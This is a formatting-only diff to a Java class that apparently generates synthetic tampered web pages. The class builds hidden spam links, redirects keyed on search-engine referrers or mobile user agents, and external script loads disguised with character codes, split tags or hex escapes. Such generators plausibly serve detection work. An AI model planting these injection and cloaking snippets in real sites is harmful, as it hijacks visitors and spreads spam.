@@ -47,7 +47,12 @@ final class MarkupTampering {
         StringBuilder links = new StringBuilder();
         for (int i = draw.between(1, 5); i > 0; i--) {
             String brand = brands.spellings().get(0);
-            links.append("<a href=\"http://www.").append(draw.of("kq yy zx mm")).append(draw.between(10, 9999)).append(".com/\">").append(brand).append("</a> ");
+            links.append("<a href=\"http://www.")
+                    .append(draw.of("kq yy zx mm"))
+                    .append(draw.between(10, 9999))
+                    .append(".com/\">")
+                    .append(brand)
+                    .append("</a> ");
         }
         return links.toString();
     }
@@ -62,17 +67,33 @@ final class MarkupTampering {
             case 5 -> "<noscript>" + links + "</noscript>";
             case 6 -> "<marquee height=1 width=5 scrollamount=3000>" + links + "</marquee>";
             case 7 -> "<!-- " + links + " -->";
-            default -> "<div style=\"overflow:hidden;height:0\"><ul><li>" + links + "</li></ul></div>";
+            default ->
+                    "<div style=\"overflow:hidden;height:0\"><ul><li>" + links + "</li></ul></div>";
         };
     }
 
     private String code(String address) {
         return switch (draw.below(6)) {
-            case 0 -> "var s=document.referrer;if(s.indexOf('baidu')>0||s.indexOf('sogou')>0){location.href='https:" + address + "';}";
-            case 1 -> "document.write(String.fromCharCode(" + codes("<script src=\"" + address + "\"></script>") + "));";
-            case 2 -> "if(/android|iphone/i.test(navigator.userAgent)){window.location.replace(\"http:" + address + "\");}";
-            case 3 -> "document.write('<scr'+'ipt src=\"" + address + "\"></scr'+'ipt>');if(document.referrer.match(/so\\.com|baidu/)){}";
-            case 4 -> "window[\"\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74\"].write(\"" + hex("<script src='" + address + "'></script>") + "\");document.write('');";
+            case 0 ->
+                    "var s=document.referrer;if(s.indexOf('baidu')>0||s.indexOf('sogou')>0){location.href='https:"
+                            + address
+                            + "';}";
+            case 1 ->
+                    "document.write(String.fromCharCode("
+                            + codes("<script src=\"" + address + "\"></script>")
+                            + "));";
+            case 2 ->
+                    "if(/android|iphone/i.test(navigator.userAgent)){window.location.replace(\"http:"
+                            + address
+                            + "\");}";
+            case 3 ->
+                    "document.write('<scr'+'ipt src=\""
+                            + address
+                            + "\"></scr'+'ipt>');if(document.referrer.match(/so\\.com|baidu/)){}";
+            case 4 ->
+                    "window[\"\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74\"].write(\""
+                            + hex("<script src='" + address + "'></script>")
+                            + "\");document.write('');";
             default -> "document.title='" + brands.spellings().get(0) + "';";
         };
     }
@@ -97,7 +118,10 @@ final class MarkupTampering {
             "<div style=\"display:none\" class=qr><a href=\"https://weixin.qq.com/\">微信</a><img src=qr.png></div>",
             "<a href=\"http://www.moe.gov.cn/\">主管部门</a>"
         };
-        StringBuilder html = new StringBuilder("<html><head><title>").append(page.field("title")).append("</title></head><body>");
+        StringBuilder html =
+                new StringBuilder("<html><head><title>")
+                        .append(page.field("title"))
+                        .append("</title></head><body>");
         List<String> some = draw.some(List.of(parts), draw.between(2, 6));
         int at = draw.below(some.size());
         for (int i = 0; i < some.size(); i++) {
